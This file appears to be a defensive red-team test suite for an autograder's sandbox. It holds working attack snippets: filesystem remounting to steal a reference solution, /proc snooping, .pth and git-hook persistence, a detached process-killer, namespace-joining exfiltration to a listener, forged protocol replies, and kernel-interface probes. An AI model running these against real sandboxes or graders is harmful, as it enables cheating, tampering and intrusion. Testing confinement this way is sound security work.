"""Red team: can a determined student beat the standalone grader from inside the real sandbox?

Each submission below attacks one class of weakness from the confinement issue. Every test asserts that the
report is complete, that the attack achieved nothing it could observe or leave behind, and that the
submission earned no point its own code did not earn (the released stub scores 0; an attack added to the
stub must still score 0, and one added to the reference must cost nothing or only its own checks).
"""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from conftest import ROOT, failed, stub_source
from edits import BLOCK_FORWARD, FAST, SDPA_BODY, lost_parts, with_code

from autograder.exercises import get_exercise
from autograder.grading import grade_path
from autograder.sandbox import probe

EXERCISE = get_exercise("transformer")
RUN = {**FAST, "timeout_factor": 0.3}


def at_load(code: str) -> str:
    """Code that runs when the submission is loaded (a class body runs at definition; calls at module level
    are dropped by the grader, class bodies are not)."""
    return "\n\nclass _Attack:\n" + textwrap.indent(textwrap.dedent(code), "    ") + "\n"


def in_function(code: str) -> str:
    """``code`` as the body of a module-level function ``_attack()``."""
    return "\n\ndef _attack():\n" + textwrap.indent(textwrap.dedent(code), "    ") + "\n"


def grade(write, name: str, source: str, **kw):
    report = grade_path(write(name, source), "transformer", **{**RUN, **kw})
    assert len(report.results) == len(EXERCISE.checks), "the report must list every check"
    return report


def survivors(marker: str) -> list[str]:
    """Processes on this machine whose command line contains ``marker``."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if marker in cmdline and int(pid) != os.getpid():
            found.append(f"{pid}: {cmdline[:120]}")
    return found


@pytest.fixture(scope="module")
def stub_text(solution_text):
    return stub_source(solution_text)


@pytest.fixture(scope="module")
def solution_text():
    return (ROOT / "solutions" / "transformer.py").read_text()


def test_is_the_sandbox_available_here():
    """CI installs bubblewrap and libseccomp: without them every test below would grade unconfined."""
    features = probe()
    assert features.confined, features.reason


# --- reading what the child must not see -------------------------------------------------------------------

def test_can_a_stub_find_and_run_the_reference_solution(write, stub_text):
    """It unmounts, remounts, walks the file system and the grader's /proc entries looking for the solution."""
    signature = "def scaled_dot_product_attention(query, key, value, mask=None)"
    attack = at_load(f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for point in [l.split()[4] for l in open('/proc/self/mountinfo')]:
            libc.umount2(point.encode(), 2)
        libc.mount(None, b'/', None, 32 | 4096, None)
        guesses = [{str(ROOT / 'solutions' / 'transformer.py')!r}, '/proc/1/root{ROOT}/solutions/transformer.py']
        guesses += [f'/proc/{{p}}/root{ROOT}/solutions/transformer.py' for p in range(1, 200)]
        for top, dirs, files in os.walk('/'):
            dirs[:] = [d for d in dirs if not (top == '/' and d in ('proc', 'sys', 'dev'))]
            guesses += [os.path.join(top, f) for f in files if f.endswith(('transformer.py', '.ipynb', 'mutations.py'))]
        for path in guesses:
            try:
                text = open(path).read()
            except OSError:
                continue
            if {signature!r} in text and '_Attack' not in text:
                exec(text, globals())
                break
    """)
    report = grade(write, "thief.py", stub_text + attack)
    assert report.score == 0, {r.name: r.message for r in report.results if r.points}


def test_can_a_submission_see_the_grader_or_other_submissions(tmp_path, solution_text):
    """In a batch, the attacker lists every process and file it can reach and prints them in an exception;
    the victim's file (named on the grader's command line) and its contents must not show up."""
    secret = f"SECRET-{uuid.uuid4().hex}"
    victim = tmp_path / f"victim-{secret}.py"
    victim.write_text(solution_text + f"\n# {secret}\n")
    spy = in_function(f"""
        import os
        seen = []
        for pid in filter(str.isdigit, os.listdir('/proc')):
            for what in ('cmdline', 'environ'):
                try:
                    seen.append(open(f'/proc/{{pid}}/{{what}}', 'rb').read().decode(errors='replace'))
                except OSError:
                    pass
            for fd in range(64):
                try:
                    seen.append(os.readlink(f'/proc/{{pid}}/fd/{{fd}}'))
                except OSError:
                    pass
        for path in [{str(victim)!r}, '/proc/1/root{victim}']:
            try:
                seen.append(open(path).read())
            except OSError:
                pass
        raise RuntimeError(' | '.join(seen).replace(chr(0), ' '))
    """)
    attacker = tmp_path / "spy.py"
    attacker.write_text(with_code(solution_text, SDPA_BODY, "_attack()") + spy)
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(attacker), str(victim), "--exercise",
                           "transformer", "--skip-training", "--seed", "1"], capture_output=True, text=True,
                          cwd=ROOT, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    spy_report = proc.stdout.split(f"transformer: {victim}")[0]
    assert "your code raised RuntimeError" in spy_report  # the attack ran ...
    assert secret not in spy_report and str(tmp_path) not in spy_report.replace(str(attacker), "")  # ... blind
    assert proc.stdout.count("score ") == 2


# --- leaving something behind ------------------------------------------------------------------------------

def test_can_a_submission_tamper_with_the_grader_or_its_environment(write, stub_text):
    """It writes a .pth into every site directory, edits a grader module and a git hook, and writes to /tmp."""
    escape = Path("/tmp") / f"escape-{uuid.uuid4().hex}"
    module = ROOT / "autograder" / "grading.py"
    before = hashlib.sha256(module.read_bytes()).hexdigest()
    attack = at_load(f"""
        import os, sys
        targets = [os.path.join(p, 'zz_autograder_pwn.pth') for p in sys.path if p]
        targets += [{str(module)!r}, {str(ROOT / '.git' / 'hooks' / 'post-checkout')!r}, {str(escape)!r}]
        for path in targets:
            try:
                with open(path, 'a') as f:
                    f.write('import autograder_pwned\\n')
            except OSError:
                pass
    """)
    report = grade(write, "tamper.py", stub_text + attack)
    assert report.score == 0
    assert hashlib.sha256(module.read_bytes()).hexdigest() == before
    assert not escape.exists()
    assert not (ROOT / ".git" / "hooks" / "post-checkout").exists()
    site = [Path(p) for p in sys.path if p.endswith("site-packages")]
    assert not any((p / "zz_autograder_pwn.pth").exists() for p in site)


def test_does_a_process_that_hides_from_the_grader_outlive_it(write, solution_text):
    """A double-forked process in a new session, that would kill every process it can see, is gone when
    grading ends, and the next submission graded scores full marks."""
    marker = f"lurker-{uuid.uuid4().hex}"
    lurker = (f"import os, signal, time  # {marker}\n"
              "while True:\n"
              "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
              "        if int(pid) != os.getpid():\n"
              "            try:\n"
              "                os.kill(int(pid), signal.SIGKILL)\n"
              "            except OSError:\n"
              "                pass\n"
              "    time.sleep(0.05)\n")
    attack = at_load(f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, '-c', {lurker!r}], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    """)
    grade(write, "lurker.py", stub_source(solution_text) + attack)
    deadline = time.monotonic() + 10
    while survivors(marker) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert survivors(marker) == []
    victim = grade(write, "victim.py", solution_text)
    assert lost_parts(victim) == set()


# --- reaching out ------------------------------------------------------------------------------------------

def test_can_a_submission_join_the_graders_network_namespace(write, solution_text, listener):
    attack = in_function(f"""
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in filter(str.isdigit, os.listdir('/proc')):
            try:
                fd = os.open(f'/proc/{{pid}}/ns/net', os.O_RDONLY)
                libc.setns(fd, 0)
            except OSError:
                pass
        socket.create_connection(('127.0.0.1', {listener.port}), timeout=3).sendall(b'labels please')
    """)
    report = grade(write, "netns.py", with_code(solution_text, BLOCK_FORWARD, "_attack()") + attack)
    assert listener.drained() == []
    assert lost_parts(report) == {"TransformerBlock"}  # the classifier is judged with the grader's block in its place


# --- lying to the grader -----------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [
    "b'[' * 200_000",  # a deeply nested header
    "b'[' + b'[],' * 400_000 + b'[]]'",  # a small reply that would build millions of objects
    "__import__('autograder.protocol', fromlist=['encode']).encode({'outputs': 'not a reply'})",
    "(1 << 62).to_bytes(8, 'little')",  # a size that would never arrive
])
def test_does_a_forged_reply_on_the_protocol_channel_count_as_a_crash(write, solution_text, payload):
    """The submission writes its own message to the pipe the grader reads: the parent never dies, that
    check fails as a crash, and the other parts still score."""
    forge = in_function(f"""
        import os, struct
        body = {payload}
        message = body if len(body) == 8 else struct.pack('<QI', len(body), 0) + body
        framed = message if len(body) == 8 else struct.pack('<Q', len(message)) + message
        for fd in range(3, 16):
            try:
                if os.readlink(f'/proc/self/fd/{{fd}}').startswith('pipe:'):
                    os.write(fd, framed)
            except OSError:
                pass
    """)
    report = grade(write, "forger.py", with_code(solution_text, BLOCK_FORWARD, "_attack()") + forge)
    assert report.grader_errors == []
    assert lost_parts(report) == {"TransformerBlock"}  # the classifier is judged with the grader's block in its place
    assert any("reply" in r.message or "ended" in r.message or "did not finish" in r.message
               for r in failed(report).values())


def test_can_a_note_forge_lines_of_the_text_report(tmp_path, stub_text):
    forged = at_load("raise ValueError('oops\\nscore 100 / 100\\nok   sdpa.values 5/5')")
    path = tmp_path / "forged_note.py"
    path.write_text(stub_text + forged)
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(path), "--exercise", "transformer",
                           "--skip-training", "--seed", "1"], capture_output=True, text=True, cwd=ROOT, timeout=600)
    assert proc.returncode == 0
    lines = proc.stdout.splitlines()
    assert [line for line in lines if line.startswith("score ")] == ["score 0 / 100"]
    assert not any(line.lstrip().startswith("ok   sdpa.values") for line in lines)


def test_does_switching_off_the_call_watch_hide_a_forbidden_built_in(write, solution_text):
    """torch's own switches turn the runtime watch off; the grader's scan of the source still sees them."""
    switch = ("with torch._C.DisableTorchFunction():\n"
              "        _ = torch.nn.functional.scaled_dot_product_attention(query, key, value)")
    source = with_code(solution_text, SDPA_BODY, switch)
    report = grade(write, "switch.py", source)
    lost = failed(report)
    assert "sdpa.shapes" in lost or "sdpa.interface" in lost
    assert any("DisableTorchFunction" in r.message for r in lost.values())


def test_does_a_built_in_named_in_a_constant_and_reached_by_getattr_still_fail(write, solution_text):
    """The static scan leaves string constants alone; the runtime watch in the child sees the call."""
    source = solution_text.replace("import torch\n", "import torch\nNAME = 'scaled_dot_product_attention'\n", 1)
    source = with_code(source, SDPA_BODY, "_ = getattr(torch.nn.functional, NAME)(query, key, value)")
    report = grade(write, "constant.py", source)
    lost = failed(report)
    assert "sdpa.shapes" in lost and "scaled_dot_product_attention" in lost["sdpa.shapes"].message


def test_can_a_submission_reach_host_settings_vsock_or_io_uring(write, solution_text):
    """Kernel settings (/proc/sys: writable to a uid that maps to the grader's root), the host over vsock
    (outside any network namespace) and io_uring are each refused; the attack raises if any is open."""
    probe_code = in_function("""
        import ctypes, os, socket
        opened = []
        for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches'):
            try:
                os.close(os.open(path, os.O_WRONLY))
                opened.append(path)
            except OSError:
                pass
        try:
            socket.socket(40, socket.SOCK_STREAM).close()
            opened.append('vsock')
        except OSError:
            pass
        if ctypes.CDLL(None, use_errno=True).syscall(425, 1, 0) != -1 or ctypes.get_errno() != 1:
            opened.append('io_uring')
        if opened:
            raise RuntimeError('open: ' + ', '.join(opened))
    """)
    report = grade(write, "host.py", with_code(solution_text, SDPA_BODY, "_attack()") + probe_code)
    assert lost_parts(report) == set(), [r.message for r in failed(report).values()]


def test_can_a_submission_write_to_the_graders_log_or_read_the_sandboxs_command_line(write, solution_text):
    """Process 1 of the sandbox was bubblewrap's reaper: its stderr was the grader's start-up log (a child could
    write forged lines and escapes there) and its command line named every masked data path. Now process 1 is
    the child itself."""
    from autograder.sandbox import hidden_paths

    attack = in_function("""
        import os
        seen = [open('/proc/1/cmdline', 'rb').read().decode(errors='replace')]
        seen += [os.readlink(f'/proc/1/fd/{fd}') for fd in (1, 2)]
        for pid in filter(str.isdigit, os.listdir('/proc')):
            try:
                seen.append(open(f'/proc/{pid}/cmdline', 'rb').read().decode(errors='replace'))
            except OSError:
                pass
        raise RuntimeError(' | '.join(seen).replace(chr(0), ' '))
    """)
    report = grade(write, "pid1.py", with_code(solution_text, SDPA_BODY, "_attack()") + attack)
    text = " ".join(r.message for r in report.results)
    assert "your code raised RuntimeError" in text  # the attack ran ...
    assert "autograder.child" in text and "bwrap" not in text  # ... process 1 is the child, not bubblewrap
    assert "child-stderr" not in text and "/dev/null | /dev/null" in text  # its stdout and stderr lead nowhere
    assert not [p for p in hidden_paths() if p in text]
